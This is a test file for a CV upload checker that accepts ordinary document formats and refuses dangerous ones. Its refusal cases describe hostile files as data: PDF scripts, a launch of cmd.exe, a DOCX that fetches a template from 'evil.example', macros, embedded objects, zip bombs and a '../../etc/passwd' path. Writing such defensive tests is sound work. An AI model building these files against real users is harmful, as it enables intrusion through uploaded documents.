import { describe, expect, it } from 'vitest';
import {
  archive,
  doc,
  docx,
  docxParts,
  odt,
  packedObjects,
  pdf,
  rtf,
} from '../../../tests/helpers/cv-files.ts';
import { inspectBytes } from './inspect-cv.ts';

async function verdict(bytes: Buffer): Promise<string> {
  const result = await inspectBytes(bytes);
  return result.ok ? result.type : result.problem;
}

const zeros = Buffer.alloc(40 * 1024 * 1024);

describe('a CV', () => {
  it.each<[string, Buffer, string]>([
    ['a PDF', pdf(), 'pdf'],
    ['a PDF with packed objects', pdf(packedObjects('1 0 << /Type /Font >>')), 'pdf'],
    ['an RTF', rtf(), 'rtf'],
    ['a DOCX', docx(), 'docx'],
    [
      'a DOCX with a picture and a chart',
      docx(
        { name: 'word/media/image1.png', text: 'x' },
        { name: 'word/embeddings/Sheet1.xlsx', text: 'x' },
      ),
      'docx',
    ],
    ['an ODT', odt(), 'odt'],
    ['a DOC', doc(), 'doc'],
  ])('is %s by its content', async (_name, bytes, type) => {
    expect(await verdict(bytes)).toBe(type);
  });

  it.each<[string, Buffer, string]>([
    ['empty', Buffer.alloc(0), 'file-empty'],
    ['a page', Buffer.from('<!doctype html><script>'), 'file-kind'],
    ['a picture', Buffer.from('89504e470d0a1a0a', 'hex'), 'file-kind'],
    ['a program', Buffer.from('4d5a90000300', 'hex'), 'file-kind'],
    ['a plain text', Buffer.from('Curriculum vitae'), 'file-kind'],
    ['another archive', archive([{ name: 'a.txt', text: 'a' }]), 'file-kind'],
    [
      'a spreadsheet',
      archive([
        { name: '[Content_Types].xml', text: 'spreadsheetml' },
        { name: 'xl/workbook.xml', text: '' },
      ]),
      'file-kind',
    ],
    ['an old spreadsheet', doc({ names: ['Workbook'] }), 'file-kind'],
    ['a PDF that is cut off', pdf().subarray(0, -60), 'file-damaged'],
    ['a DOCX that is cut off', docx().subarray(0, -30), 'file-damaged'],
    ['a DOC that is cut off', doc().subarray(0, 3_000), 'file-damaged'],
    ['the head of a DOC', doc().subarray(0, 300), 'file-damaged'],
    ['an RTF that is cut off', rtf().subarray(0, -4), 'file-damaged'],
    [
      'a DOCX with a wrong byte',
      Buffer.from(docx().map((byte, at) => (at === 60 ? byte ^ 1 : byte))),
      'file-damaged',
    ],
    ['an encrypted PDF', pdf('', '/Encrypt 8 0 R '), 'file-encrypted'],
    ['an encrypted archive', archive(docxParts(), 1), 'file-encrypted'],
    [
      'an encrypted ODT',
      odt({ name: 'META-INF/manifest.xml', text: '<manifest:encryption-data/>' }),
      'file-encrypted',
    ],
    ['an encrypted DOC', doc({ flags: 0x0100 }), 'file-encrypted'],
    ['an encrypted DOCX', doc({ names: ['EncryptedPackage'] }), 'file-encrypted'],
    [
      'a PDF with a script',
      pdf('8 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'),
      'file-active',
    ],
    [
      'a PDF with a script under an escaped name',
      pdf('8 0 obj\n<< /S /J#61vaScript >>\nendobj\n'),
      'file-active',
    ],
    [
      'a PDF with a packed script',
      pdf(packedObjects('1 0 << /S /JavaScript /JS (x) >>')),
      'file-active',
    ],
    ['a PDF with a file in it', pdf('8 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'), 'file-active'],
    [
      'a PDF that starts a program',
      pdf('8 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'),
      'file-active',
    ],
    ['a DOCX with macros', docx({ name: 'word/vbaProject.bin', text: 'x' }), 'file-active'],
    [
      'a DOCX that fetches its template',
      docx({
        name: 'word/_rels/settings.xml.rels',
        text: '<Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      }),
      'file-active',
    ],
    ['a DOC with macros', doc({ names: ['WordDocument', 'Macros'] }), 'file-active'],
    ['an ODT with macros', odt({ name: 'Basic/script-lc.xml', text: 'x' }), 'file-active'],
    ['an RTF with an object', rtf('{\\object\\objemb{\\*\\objdata 0105}}'), 'file-active'],
    ['an RTF with an object torn apart', rtf('{\\obj\r\ndata 0105}'), 'file-active'],
    ['a bomb', docx({ name: 'word/media/a.bin', text: zeros }), 'file-bomb'],
    [
      'a bomb that lies about its size',
      archive(
        docxParts({ name: 'word/media/a.bin', text: zeros.subarray(0, 900_000), declared: 9 }),
      ),
      'file-bomb',
    ],
    [
      'a bomb of entities',
      docx({ name: 'word/styles.xml', text: '<!DOCTYPE x [<!ENTITY a "a">]>' }),
      'file-bomb',
    ],
    ['a PDF with an archive behind it', Buffer.concat([pdf(), docx()]), 'file-ambiguous'],
    [
      'a PDF with a page behind it',
      Buffer.concat([pdf(), Buffer.from(`<script>${' '.repeat(2_000)}`)]),
      'file-ambiguous',
    ],
    ['a PDF with a page in it', pdf('<html><script>alert(1)</script>\n'), 'file-ambiguous'],
    [
      'an archive with something behind it',
      Buffer.concat([docx(), Buffer.from('MZ')]),
      'file-ambiguous',
    ],
    [
      'an archive with a part twice',
      docx({ name: 'word/document.xml', text: 'other' }),
      'file-ambiguous',
    ],
    ['a DOC with an archive behind it', Buffer.concat([doc(), docx()]), 'file-ambiguous'],
    [
      'an RTF with a page behind it',
      Buffer.concat([rtf(), Buffer.from('<script>')]),
      'file-ambiguous',
    ],
    ['a way out of its folder', docx({ name: '../../etc/passwd', text: 'x' }), 'file-damaged'],
  ])('is refused where it is %s', async (_name, bytes, problem) => {
    expect(await verdict(bytes)).toBe(problem);
  });

  it('is never a reason to fail, wherever it is cut off or changed', async () => {
    for (const whole of [pdf(packedObjects('1 0 << >>')), rtf(), docx(), odt(), doc()]) {
      for (let at = 1; at < whole.length; at += Math.ceil(whole.length / 60)) {
        await verdict(whole.subarray(0, at));
        const changed = Buffer.from(whole);
        changed[at] = (changed[at] ?? 0) ^ 0xff;
        await verdict(changed);
      }
    }
  });
});
